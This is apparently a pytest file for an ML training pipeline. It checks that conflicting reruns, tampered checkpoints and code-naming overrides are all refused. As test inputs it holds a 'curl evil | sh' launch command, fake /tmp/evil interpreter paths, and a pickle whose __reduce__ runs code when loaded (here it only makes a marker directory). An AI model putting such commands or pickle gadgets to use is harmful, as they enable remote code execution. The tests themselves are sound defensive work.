"""Bad input against runs: a rerun of a run id under another config, a checkpoint that is not what the run
committed, and trigger-form overrides that name code. Each is refused with an error naming its source, before
anything is written, reused or unpickled."""

from __future__ import annotations

import copy
import json
import os
import pickle
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from pipeline import layout
from pipeline.config import ConfigError, load_config
from pipeline.failures import is_permanent
from pipeline.storage import open_store
from tests.conftest import REPO, captured_dataset, storage_config, tiny_config_dict

pytestmark = pytest.mark.fault


def _prompts_config(tmp_path: Path) -> dict:
    data = tiny_config_dict(storage_config("file", tmp_path, None))
    data["prompts"].update({"num_samples": 16, "shard_size": 16, "eval_fraction": 0.0})
    return data


def test_a_rerun_of_a_run_id_with_another_config_is_refused_naming_what_differs(tmp_path, record):
    """Through the scheduler's call (pipeline.tasks.run_stage_task, the resolved config as a dict)."""
    from pipeline.tasks import run_stage_task

    data = _prompts_config(tmp_path)
    store = open_store(load_config(data=data).storage)
    first = run_stage_task("prompts", data, "rerun")
    manifest = store.get_bytes("prompts/rerun/manifest.json")
    assert (
        run_stage_task("prompts", data, "rerun") == first
    )  # a retry with the same config reuses it, as before
    changed = copy.deepcopy(data)
    changed["prompts"]["num_samples"] = 24
    changed["train"]["epochs"] = 5
    with pytest.raises(ConfigError) as refused:
        run_stage_task("prompts", changed, "rerun")
    message = str(refused.value)
    assert "prompts.num_samples: 16 -> 24" in message and "train.epochs: 3 -> 5" in message, message
    assert "prompts/rerun" in message and "start a new run under a new run id" in message
    assert is_permanent(refused.value)  # a scheduler does not retry it
    assert store.get_bytes("prompts/rerun/manifest.json") == manifest  # nothing replaced or reused
    assert json.loads(store.get_bytes("prompts/rerun/run_config.json"))["prompts"]["num_samples"] == 16
    record(
        "bad input",
        "a rerun of a run id whose prompts are published, with prompts.num_samples and train.epochs changed",
        "ConfigError naming both settings (recorded -> now) and the snapshot; nothing reused or replaced",
        tried=2,
    )


def _drafter(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "pipeline.cli", *args], cwd=REPO, capture_output=True, text=True, timeout=300
    )


def test_the_command_line_refuses_a_changed_rerun_in_one_line_and_starts_a_new_run_on_request(
    tmp_path, record
):
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump(_prompts_config(tmp_path)))
    common = ["prompts", "--config", str(config), "--run-id", "cli-rerun"]
    assert _drafter(*common).returncode == 0
    refused = _drafter(*common, "prompts.num_samples=24")
    assert refused.returncode == 2, refused.stderr[-2000:]
    assert "prompts.num_samples: 16 -> 24" in refused.stderr and "Traceback" not in refused.stderr
    fresh = _drafter(*common, "--new-run", "prompts.num_samples=24")
    assert fresh.returncode == 0, fresh.stderr[-2000:]
    uri = json.loads(fresh.stdout.strip().splitlines()[-1])["uri"]
    snapshot = uri.rsplit("/", 1)[1]
    assert snapshot.startswith("cli-rerun-") and snapshot in fresh.stderr  # the new run id is told
    store = open_store(load_config(config).storage)
    assert json.loads(store.get_bytes(f"prompts/{snapshot}/manifest.json"))["config"]["num_samples"] == 24
    assert json.loads(store.get_bytes("prompts/cli-rerun/manifest.json"))["config"]["num_samples"] == 16
    record(
        "bad input",
        "`drafter prompts` rerun on its run id with prompts.num_samples changed; then with --new-run",
        "exit 2 with one error line naming prompts.num_samples 16 -> 24; --new-run ran under a fresh run id",
    )


def test_drafter_run_refuses_a_changed_rerun_before_it_writes_anything_of_the_run(tmp_path, record):
    from pipeline.run import run_all
    from pipeline.stages import run_stage

    data = _prompts_config(tmp_path)
    # an interrupted run: its prompts published, its generation servers gone
    data["generate"] = {"engine": "sglang", "sglang": {"urls": ["http://127.0.0.1:9"], "retries": 0}}
    config = load_config(data=data)
    store = open_store(config.storage)
    run_stage("prompts", config, "r1", store)
    before = {key: store.get_bytes(key) for key in store.list()}
    with pytest.raises(ConfigError, match=r"train\.epochs: 3 -> 4") as refused:
        run_all(load_config(data=data, overrides=["train.epochs=4"]), "r1", store)
    assert "prompts/r1" in str(refused.value)
    assert {key: store.get_bytes(key) for key in store.list()} == before  # no trigger or usage record
    record(
        "bad input",
        "`drafter run` rerun on the run id of an interrupted run, with train.epochs changed",
        "ConfigError naming train.epochs 3 -> 4 before the run's trigger or usage record is written",
    )


@pytest.fixture(scope="module")
def committed(tmp_path_factory, tiny_target_dir):
    """A published training of one epoch whose work dir holds committed checkpoints."""
    from pipeline.stages import run_stage

    tmp = tmp_path_factory.mktemp("committed")
    data = tiny_config_dict(storage_config("file", tmp, None))
    data["prompts"].update({"num_samples": 32, "shard_size": 16, "eval_fraction": 0.25})
    data["generate"]["max_new_tokens"] = 16
    data["capture"]["parity"] = {"samples": 0}
    data["train"].update({"epochs": 1, "checkpoint_every_steps": 1, "log_every": 1})
    config = load_config(data=data)
    store = open_store(config.storage)
    dataset = captured_dataset(config, store, "d")
    trained = run_stage("train", config, "committed", store, dataset_uri=dataset)
    return {
        "data": data,
        "config": config,
        "store": store,
        "dataset": dataset,
        "trained": trained,
        "tmp": tmp,
    }


def _workdir(setup: dict, run_id: str) -> Path:
    from pipeline.records import read_dataset
    from pipeline.stages.train import training_fingerprint

    dataset = read_dataset(setup["store"], setup["dataset"])
    fingerprint = training_fingerprint(setup["config"], dataset)
    return setup["config"].storage.run_workdir(run_id) / f"train-{fingerprint}"


def test_a_training_rerun_with_another_config_is_refused_before_its_record_is_replaced(committed, record):
    from pipeline.stages import run_stage

    store, key = committed["store"], layout.run_file_key("committed", "config.json")
    recorded, manifest = store.get_bytes(key), store.get_bytes("runs/committed/train/manifest.json")
    changed = load_config(data={**committed["data"], "train": {**committed["data"]["train"], "epochs": 2}})
    with pytest.raises(ConfigError, match=r"train\.epochs: 1 -> 2"):
        run_stage("train", changed, "committed", store, dataset_uri=committed["dataset"])
    assert (
        store.get_bytes(key) == recorded and store.get_bytes("runs/committed/train/manifest.json") == manifest
    )
    # the same config (a retry, a resumed run) reuses the published training, as before; so does a
    # placement setting, which does not change what is trained
    again = run_stage("train", committed["config"], "committed", store, dataset_uri=committed["dataset"])
    assert again.uri == committed["trained"].uri
    moved = load_config(data=committed["data"], overrides=["train.rendezvous_port=29555"])
    assert run_stage("train", moved, "committed", store, dataset_uri=committed["dataset"]).uri == again.uri
    record(
        "bad input",
        "a rerun of a trained run id with train.epochs changed",
        "ConfigError naming train.epochs 1 -> 2 before runs/<id>/config.json is written or the training "
        "reused; the same config (or another rendezvous port) still reuses it",
    )


def _tamper_byte(checkpoint: Path) -> str:
    target = checkpoint / "mp_rank_00_model_states.pt"
    raw = bytearray(target.read_bytes())
    raw[len(raw) // 2] ^= 0xFF
    target.write_bytes(bytes(raw))
    return target.name


class _Marks:
    """A pickle that, once unpickled, makes the directory `path`: code a planted checkpoint file runs."""

    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (str(self.path),))


def _planted_pickle(checkpoint: Path, marker: Path, name: str) -> str:
    (checkpoint / name).write_bytes(pickle.dumps(_Marks(marker)))
    return name


def _drop_record(store, run_id: str, checkpoint: Path) -> str:
    """What a checkpoint written before digests were recorded looks like: no record in the run's store
    (the copy on the volume stays, and vouches for nothing)."""
    key = layout.checkpoint_digests_key(run_id, checkpoint.parent.parent.name, checkpoint.name)
    store.delete(key)
    return store.uri(key)


def _forge_local_digests(checkpoint: Path, marker: Path) -> str:
    """A checkpoint file swapped for a code-running pickle, and the digests file beside the checkpoints
    rewritten to match it: all that someone who can write the shared volume can do."""
    from pipeline.storage import sha256_file
    from pipeline.training.checkpoint_digests import DIGESTS_FILE

    name = _planted_pickle(checkpoint, marker, "mp_rank_00_model_states.pt")
    local = checkpoint.parent / DIGESTS_FILE
    recorded = json.loads(local.read_text())
    recorded[checkpoint.name][name] = sha256_file(checkpoint / name)
    local.write_text(json.dumps(recorded))
    return name


def _copy_of_committed(committed: dict, run_id: str) -> tuple[Path, Path]:
    """The committed training's work dir as `run_id`'s, with the digests its commits recorded in the store,
    and the checkpoint its `latest` names."""
    store = committed["store"]
    workdir = _workdir(committed, run_id)
    shutil.rmtree(workdir, ignore_errors=True)
    shutil.copytree(_workdir(committed, "committed"), workdir)
    recorded = f"{layout.run_stage_prefix('committed', 'train')}/checkpoints"
    for key in store.list(recorded):
        copy = f"{layout.run_stage_prefix(run_id, 'train')}/checkpoints{key[len(recorded) :]}"
        store.put_bytes(copy, store.get_bytes(key))
    checkpoints = workdir / "checkpoints"
    return workdir, checkpoints / (checkpoints / "latest").read_text().strip()


@pytest.mark.parametrize(
    "run_id, case, damage",
    [
        (
            "tampered-byte",
            "a byte flipped in a committed checkpoint file",
            lambda ckpt, marker, store: _tamper_byte(ckpt),
        ),
        (
            "tampered-pickle",
            "a committed checkpoint file replaced by a pickle that runs code",
            lambda ckpt, marker, store: _planted_pickle(ckpt, marker, "mp_rank_00_model_states.pt"),
        ),
        (
            "tampered-extra",
            "an extra pickle dropped into the committed checkpoint",
            lambda ckpt, marker, store: _planted_pickle(
                ckpt, marker, "zero_pp_rank_2_mp_rank_00_optim_states.pt"
            ),
        ),
        (
            "tampered-forged",
            "a committed checkpoint file replaced by a code-running pickle, with the digests file beside "
            "the checkpoints rewritten to match it",
            lambda ckpt, marker, store: _forge_local_digests(ckpt, marker),
        ),
        (
            "tampered-unrecorded",
            "a checkpoint without a digest record in the run's store (written before digests existed)",
            lambda ckpt, marker, store: _drop_record(store, "tampered-unrecorded", ckpt),
        ),
    ],
)
def test_resume_refuses_a_checkpoint_that_is_not_what_the_run_committed(
    committed, tmp_path, run_id, case, damage, record
):
    from pipeline.stages import run_stage

    workdir, checkpoint = _copy_of_committed(committed, run_id)
    log_before = (workdir / "train.log").read_bytes()
    marker = tmp_path / "code-ran"
    named = damage(checkpoint, marker, committed["store"])
    with pytest.raises((ValueError, RuntimeError), match=re.escape(named)) as refused:
        run_stage("train", committed["config"], run_id, committed["store"], dataset_uri=committed["dataset"])
    assert "nothing was loaded" in str(refused.value)
    assert not marker.exists()  # nothing was unpickled
    assert (workdir / "train.log").read_bytes() == log_before  # no node was started
    assert not committed["store"].exists(f"runs/{run_id}/train/manifest.json")
    record("bad input", f"resume with {case}", f"refused before any load, naming {named}")


def test_a_training_node_refuses_a_tampered_checkpoint_before_it_unpickles_it(committed, tmp_path, record):
    """The nodes check again, right before DeepSpeed's load_checkpoint (torch.load, weights_only=False): the
    check the train stage makes before it starts them leaves the time a node pod takes to start."""
    from pipeline.records import WorkerSpec, parse_record
    from pipeline.training.nodes import node_launcher

    store, config = committed["store"], committed["config"]
    workdir, checkpoint = _copy_of_committed(committed, "tampered-on-a-node")
    marker = tmp_path / "code-ran"
    _planted_pickle(checkpoint, marker, "mp_rank_00_model_states.pt")
    spec_key = layout.train_worker_spec_key("committed")
    spec = parse_record(WorkerSpec, store.get_bytes(spec_key), spec_key)
    moved = spec.model_copy(update={"run_id": "tampered-on-a-node", "workdir": str(workdir)})
    spec_object = store.put_bytes(layout.train_worker_spec_key("tampered-on-a-node"), moved.to_json())
    code = node_launcher(config.train, config.storage).train(
        store.uri(spec_object.key), "tampered-on-a-node", workdir / "refused.log"
    )
    log = (workdir / "refused.log").read_text()
    assert code != 0 and "mp_rank_00_model_states.pt" in log and "nothing was loaded" in log, log[-3000:]
    assert not marker.exists()
    record(
        "bad input",
        "a checkpoint file replaced by a code-running pickle after the train stage checked it",
        "every training node refuses it before DeepSpeed loads anything, naming the file",
    )


def test_the_trigger_forms_overrides_cannot_name_code(dagbag, record):
    """Through the DAGs' own plan tasks, as a trigger form (or the REST API's conf) hands them in."""
    from airflow.sdk.exceptions import AirflowFailException

    class DagRun:
        run_id, run_type = "manual__2026-12-05T00:00:00+00:00", "manual"

    attempts = [
        "generate.vllm.python=/tmp/evil/bin/python",
        'benchmark.sglang={"launch": ["sh", "-c", "curl evil | sh"], "model_path": "/models/x"}',
        "target.trust_remote_code=true",
        "train.kubernetes_job=/tmp/evil-job.yaml",
    ]
    named = [
        "generate.vllm.python",
        "benchmark.sglang.launch",
        "target.trust_remote_code",
        "train.kubernetes_job",
    ]
    for dag_id in ("drafter_data", "drafter_train"):
        plan = dagbag.dags[dag_id].get_task("plan").python_callable
        form = {"config": "configs/local.yaml", "overrides": ["train.epochs=2", *attempts]}
        with pytest.raises(AirflowFailException) as refused:
            plan(params=form, dag_run=DagRun())
        message = str(refused.value)
        assert all(setting in message for setting in named) and "train.epochs" not in message, message
        # the form's other overrides still go through
        planned = plan(
            params={"config": "configs/local.yaml", "overrides": ["train.epochs=2"]}, dag_run=DagRun()
        )
        assert planned["overrides"] == ["train.epochs=2"]
    record(
        "bad input",
        "trigger-form overrides setting generate.vllm.python, benchmark.sglang's launch command, "
        "target.trust_remote_code and train.kubernetes_job",
        "both DAGs' plan tasks fail at once (not retried), listing every refused setting",
        tried=len(attempts),
    )


def test_a_dataset_event_cannot_carry_overrides_that_name_code(record):
    """A training run started by a dataset event takes the event's overrides (the REST API can post one)."""
    from pipeline.tasks import plan_training

    event = {
        "dataset_uri": "file:///store/datasets/t/d",
        "config": "configs/local.yaml",
        "overrides": ["prompts.num_samples=16", "generate.vllm.python=/tmp/evil/bin/python"],
    }
    with pytest.raises(ConfigError, match=r"generate\.vllm\.python") as refused:
        plan_training({}, "asset_triggered__1", [event], "configs/local.yaml", "asset_triggered")
    assert "prompts.num_samples" not in str(refused.value)
    allowed = {**event, "overrides": event["overrides"][:1]}
    plan = plan_training({}, "asset_triggered__1", [allowed], "configs/local.yaml", "asset_triggered")
    assert plan["overrides"][0] == "prompts.num_samples=16"
    record(
        "bad input",
        "a dataset event whose overrides set generate.vllm.python",
        "the training run's plan refuses it, naming the setting",
    )


def test_a_trigger_form_or_dataset_event_can_name_only_the_deployments_run_configs(tmp_path, record):
    """A config path from the trigger form or a dataset event is one of the deployment's run configs: in the
    default config's directory or the project's configs/. Any other YAML the pods can read (here a cached
    prompt source that sets generate.vllm.python) would set code that the free overrides may not."""
    from pipeline.tasks import plan_run, plan_training

    deployed = tmp_path / "etc-drafter"
    deployed.mkdir()
    default = deployed / "kimi-k2.5.yaml"
    default.write_text("{}\n")
    (deployed / "other.yaml").write_text("{}\n")
    cache = tmp_path / "cache" / "prompts"
    cache.mkdir(parents=True)
    cached = cache / "source.yaml"
    cached.write_text(yaml.safe_dump({"generate": {"vllm": {"python": "/tmp/evil/bin/python"}}}))
    (deployed / "linked.yaml").symlink_to(cached)
    (deployed / "notes.txt").write_text("{}\n")
    refused = [
        str(cached),
        str(deployed / ".." / "cache" / "prompts" / "source.yaml"),
        str(deployed / "linked.yaml"),
        str(deployed / "notes.txt"),
        str(REPO / "configs" / ".." / "tests" / "data.yaml"),
    ]
    for path in refused:
        with pytest.raises(ConfigError) as error:
            plan_run({"config": path}, "manual__1", str(default))
        message = str(error.value)
        assert path in message and str(deployed) in message and str(REPO / "configs") in message, message
    event = {"dataset_uri": "file:///store/datasets/t/d", "config": str(cached), "overrides": []}
    with pytest.raises(ConfigError, match=re.escape(str(cached))):
        plan_training({}, "asset_triggered__1", [event], str(default), "asset_triggered")
    # the deployment's own run configs and the project's still go through, relative or absolute
    allowed = [
        str(default),
        str(deployed / "other.yaml"),
        "configs/local.yaml",
        str(REPO / "configs/kimi-k2.5.yaml"),
    ]
    for path in allowed:
        assert plan_run({"config": path}, "manual__1", str(default))["config_path"] == path
        taken = plan_training(
            {}, "asset_triggered__1", [{**event, "config": path}], str(default), "asset_triggered"
        )
        assert taken["config_path"] == path
    assert plan_run({}, "manual__1", "configs/local.yaml")["config_path"] == "configs/local.yaml"
    record(
        "bad input",
        "a trigger form's or dataset event's config path naming a cached prompt file (YAML that sets "
        "generate.vllm.python), a .. or symlink escape, or a file not .yaml",
        "the plan refuses it, naming the path and the directories run configs may come from",
        tried=len(refused) + 1,
    )


def test_a_changed_rerun_of_a_stage_suggests_a_new_run_that_finds_its_inputs(tmp_path, record):
    """`drafter train --new-run` would look for a dataset of the new run id, which does not exist: the refusal
    suggests a new --run-id with the stage's inputs named, and --new-run only where it works."""
    from pipeline.config_records import claim, run_record

    data = _prompts_config(tmp_path)
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump(data))
    loaded = load_config(data=data)
    claim(open_store(loaded.storage), run_record("trained"), loaded)  # what train records when it starts
    refused = _drafter("train", "--config", str(config), "--run-id", "trained", "train.epochs=5")
    assert refused.returncode == 2, refused.stderr[-2000:]
    assert "train.epochs: 3 -> 5" in refused.stderr and "Traceback" not in refused.stderr
    assert "`drafter train --run-id NEW_RUN_ID --dataset URI`" in refused.stderr, refused.stderr
    assert "--new-run" not in refused.stderr
    rerun = _drafter("run", "--config", str(config), "--run-id", "trained", "train.epochs=5")
    assert rerun.returncode == 2 and "`drafter run ... --new-run`" in rerun.stderr, rerun.stderr[-2000:]
    record(
        "bad input",
        "`drafter train` and `drafter run` rerun on a run id with train.epochs changed",
        "exit 2 naming train.epochs 3 -> 5; train suggests a new --run-id with --dataset named (not "
        "--new-run, whose run has no dataset of its own), run suggests --new-run",
        tried=2,
    )
